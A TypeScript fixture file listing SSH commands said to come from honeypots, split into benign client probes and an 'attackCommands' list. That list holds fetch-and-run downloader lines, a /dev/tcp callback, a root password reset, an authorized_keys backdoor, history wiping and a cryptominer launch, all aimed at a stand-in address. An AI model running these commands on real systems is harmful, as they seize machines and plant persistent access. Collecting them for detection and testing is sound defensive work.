/* Commands that clients send to SSH servers: recorded, or published by honeypots. */

/** From visitors who mistype, or whose programs look for something that is not here. */
export const ordinaryCommands: readonly string[] = [
	'wrok',
	'work 99',
	'--help',
	'exit',
	'uname -a',
	'whoami',
	'ls -la',
	'cat resume.md',
	'cat /etc/passwd',
	'curl --version',
	'rsync --server --sender -vlogDtpre.iLsfxCIvu . resume.md',
	'rsync --server -vlogDtpre.iLsfxCIvu . x',
	"git-upload-pack 'resume.git'",
	"git-receive-pack 'resume.git'",
	"mosh-server 'new' '-c' '256' '-s' '-l' 'LANG=en_US.UTF-8'",
	/* rclone's probe of the shell, and of what computes hashes */
	'echo \u0024{ShellId}%ComSpec%',
	'md5sum',
	'rclone sha1sum',
	'df -k /',
	/* lftp */
	'echo FISH:;/bin/sh',
	/* kitty */
	'exec sh -c \'eval "$(command -v base64)"\' # kitten ssh bootstrap',
	/* ssh-copy-id */
	'exec sh -c \'cd; umask 077; mkdir -p ".ssh" && { [ -z `tail -1c .ssh/authorized_keys 2>/dev/null` ] || echo >> ".ssh/authorized_keys" || exit 1; } && cat >> ".ssh/authorized_keys" || exit 1; if type restorecon >/dev/null 2>&1; then restorecon -F ".ssh" ".ssh/authorized_keys"; fi \'',
	/* Ansible, Visual Studio Code, Zed, sshuttle, Docker, Borg, Nix, tmux */
	"/bin/sh -c 'echo ~anyone && sleep 0'",
	'bash',
	'uname -rsv',
	'uname -s -m',
	'/bin/sh -c \'P=python3; $P -V 2>/dev/null || P=python; exec "$P" -c "import sys"\'',
	'docker system dial-stdio',
	'borg serve --umask=077',
	'nix-store --serve --write',
	'tmux new -A -s main',
];

/** From programs that try to take over a machine. */
export const attackCommands: readonly string[] = [
	'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *',
	'(wget -qO - http://192.0.2.1/x||curl -s http://192.0.2.1/x)|sh',
	'tftp -g -r bins.sh 192.0.2.1; sh bins.sh',
	'ftpget -v -u anonymous -p anonymous -P 21 192.0.2.1 ftp1.sh ftp1.sh',
	'/bin/busybox cat /proc/self/exe || cat /proc/self/exe',
	'enable; system; shell; sh; /bin/busybox ECCHI',
	'nohup bash -c "exec 6<>/dev/tcp/192.0.2.1/60107 && echo -n x >&6"',
	'echo "root:ahC8u0"|chpasswd|bash',
	'cd ~; chattr -ia .ssh; lockr -ia .ssh',
	'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAA mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
	'unset HISTFILE; export HISTSIZE=0; id',
	'echo -n aWQ= | base64 -d | sh',
	'echo -e "\\x6F\\x6B"',
	'uname -s -v -n -r -m',
	'cat /proc/cpuinfo | grep name | wc -l',
	'/ip cloud print',
	'./xmrig -o stratum+tcp://192.0.2.1:3333',
	`${'cd /tmp; '.repeat(40)} wget http://192.0.2.1/x`,
];
